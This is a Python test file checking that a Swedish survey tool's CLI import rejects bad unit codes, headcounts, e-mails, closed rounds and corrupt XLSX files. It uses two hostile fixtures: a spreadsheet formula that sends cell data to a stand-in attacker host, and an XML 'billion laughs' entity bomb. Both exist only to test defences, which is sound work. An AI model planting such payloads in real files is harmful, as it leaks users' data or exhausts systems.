"""Import validation against hostile or broken input: unit codes, headcounts, e-mails, closed
rounds and XLSX files that are not what they claim. Each failure writes nothing."""

from __future__ import annotations

from pathlib import Path

import pytest
import sqlalchemy as sa

from survey.models import Unit
from tests.conftest import SMALL_ORG
from tests.survey.answers import write_rows as _write_rows
from tests.survey.test_cli_import import _fails, _response_rows, _xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?"&D2,"Öppna")'


@pytest.mark.parametrize(
    "code", [HOSTILE, "=1+1", "+46", "-A1", "@SUM", "EDU A", "a/b", ".hidden", "x\ty"]
)
def test_org_import_refuses_unsafe_unit_codes(runner, tmp_path, code):
    path = _write_rows(tmp_path / "org.csv", [*SMALL_ORG, [code, "Enhet", "CITY"]])
    out = _fails(
        runner,
        ["org", "import", "--year", "2025", str(path)],
        "org.csv",
        "rad 7",
        "kolumn code",
        "är ingen giltig enhetskod",
    )
    assert "bara bokstäver, siffror" in out


def test_org_import_accepts_letters_digits_dot_underscore_dash(runner, tmp_path, db_session):
    rows = [*SMALL_ORG, ["Ö_2.1-b", "Östra", "CITY"], ["7", "Sju", "CITY"]]
    result = runner.invoke(
        args=["org", "import", "--year", "2025", str(_write_rows(tmp_path / "o.csv", rows))]
    )
    assert result.exit_code == 0, result.output
    assert {"Ö_2.1-b", "7"} <= set(db_session.scalars(sa.select(Unit.code)))


def test_org_import_accepts_a_formula_like_name_as_text(runner, tmp_path, db_session):
    """Names are free text (neutralised on output, see test_exports); codes are not."""
    rows = [*SMALL_ORG, ["EVIL", HOSTILE, "CITY"]]
    result = runner.invoke(
        args=["org", "import", "--year", "2025", str(_write_rows(tmp_path / "o.csv", rows))]
    )
    assert result.exit_code == 0, result.output
    assert db_session.scalar(sa.select(Unit.name).where(Unit.code == "EVIL")) == HOSTILE
    bad = _write_rows(tmp_path / "n.csv", [*SMALL_ORG, ["X", "line\nbreak", "CITY"]])
    _fails(runner, ["org", "import", "--year", "2026", str(bad)], "n.csv", "kolumn name")


def test_org_import_headcount(runner, tmp_path, db_session):
    rows = [[*r, h] for r, h in zip(SMALL_ORG, ["headcount", 120, 40, 12, "", 50], strict=True)]
    result = runner.invoke(
        args=["org", "import", "--year", "2025", str(_write_rows(tmp_path / "o.csv", rows))]
    )
    assert result.exit_code == 0, result.output
    heads = dict(db_session.execute(sa.select(Unit.code, Unit.headcount)).all())
    assert heads == {"CITY": 120, "EDU": 40, "EDU-A": 12, "EDU-B": None, "CARE": 50}
    xlsx = _xlsx(tmp_path / "o.xlsx", rows)
    assert runner.invoke(args=["org", "import", "--year", "2026", str(xlsx)]).exit_code == 0
    assert (
        db_session.scalar(sa.select(Unit.headcount).where(Unit.year == 2026, Unit.code == "EDU-A"))
        == 12
    )


@pytest.mark.parametrize(
    ("heads", "expected"),
    [
        (["headcount", 120, "many", "", "", ""], ["rad 3", "kolumn headcount", "'many'"]),
        (["headcount", 120, "-4", "", "", ""], ["rad 3", "kolumn headcount", "inte ett heltal"]),
        (["headcount", 120, 10, 8, 5, ""], ["rad 3", "kolumn headcount", "tillsammans 13"]),
        (["headcount", 20, "", 8, 5, 10], ["rad 2", "kolumn headcount", "tillsammans 23"]),
    ],
    ids=["text", "negative", "children-exceed", "grandchildren-exceed"],
)
def test_org_import_bad_headcount(runner, tmp_path, heads, expected):
    rows = [[*r, h] for r, h in zip(SMALL_ORG, heads, strict=True)]
    path = _write_rows(tmp_path / "heads.csv", rows)
    _fails(runner, ["org", "import", "--year", "2025", str(path)], "heads.csv", *expected)


@pytest.mark.parametrize("status", ["closed", "published"])
def test_no_import_into_a_closed_round(runner, make_round, write_csv, status):
    name = make_round(status=status)
    answers = write_csv("answers.csv", _response_rows())
    _fails(
        runner,
        ["responses", "import", name, str(answers)],
        "answers.csv",
        f"mätomgången '{name}' är stängd",
        "inget kan längre läggas till",
    )
    people = write_csv("p.csv", [["email", "unit_code", "role"], ["a@x.se", "EDU-A", "employee"]])
    _fails(runner, ["respondents", "import", name, str(people)], "är stängd")


def test_responses_import_into_draft_and_open_rounds(runner, make_round, write_csv):
    for name, status in (("D", "draft"), ("O", "open")):
        make_round(name, status=status, org=name == "D")
        path = write_csv(f"{name}.csv", _response_rows())
        result = runner.invoke(args=["responses", "import", name, str(path)])
        assert result.exit_code == 0, result.output


@pytest.mark.parametrize(
    "email",
    [
        "anna@",
        "anna",
        "a b@x.se",
        "a@x",
        "Anna <a@x.se>",
        "a@@x.se",
        "a@x.se;b@x.se",
        "a@localhost",
    ],
)
def test_respondents_import_validates_emails(runner, make_round, write_csv, email):
    name = make_round()
    path = write_csv("p.csv", [["email", "unit_code", "role"], [email, "EDU-A", "employee"]])
    _fails(
        runner,
        ["respondents", "import", name, str(path)],
        "p.csv",
        "rad 2",
        "kolumn email",
        "är ingen e-postadress",
    )


def _rewrite_member(path: Path, member: str, data: bytes) -> Path:
    import zipfile

    src = path.read_bytes()
    tmp = path.with_suffix(".tmp")
    tmp.write_bytes(src)
    with zipfile.ZipFile(tmp) as zin, zipfile.ZipFile(path, "w") as zout:
        for info in zin.infolist():
            zout.writestr(info, data if info.filename == member else zin.read(info.filename))
    tmp.unlink()
    return path


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
<row r="1"><c r="A1" t="inlineStr"><is><t>&lol3;</t></is></c></row></sheetData></worksheet>"""


@pytest.mark.parametrize(
    ("member", "data", "reason"),
    [
        (None, b"code,name,parent_code\nA,B,\n", "inget zip-arkiv"),
        ("xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row>", "ingen läsbar XLSX-arbetsbok"),
        ("xl/worksheets/sheet1.xml", BOMB, "deklarerar entiteter"),
        ("xl/workbook.xml", BOMB.replace(b"worksheet", b"workbook"), "deklarerar entiteter"),
        ("xl/workbook.xml", b"\x00\x01garbage", "ingen läsbar XLSX-arbetsbok"),
    ],
    ids=["not-zip", "bad-xml", "entity-bomb-sheet", "entity-bomb-workbook", "garbage"],
)
def test_broken_xlsx_gives_one_line_and_writes_nothing(
    runner, make_org, tmp_path, member, data, reason
):
    make_org(2025, [*SMALL_ORG, ["OLD", "Kvar", "CITY"]])
    path = tmp_path / "hostile.xlsx"
    if member is None:
        path.write_bytes(data)
    else:
        _rewrite_member(_xlsx(path, SMALL_ORG), member, data)
    out = _fails(runner, ["org", "import", "--year", "2025", str(path)], "hostile.xlsx", reason)
    assert len(out.strip().splitlines()) == 1, out
    assert "lollollol" not in out


def test_xlsx_reader_uses_defusedxml():
    import openpyxl

    assert openpyxl.DEFUSEDXML is True
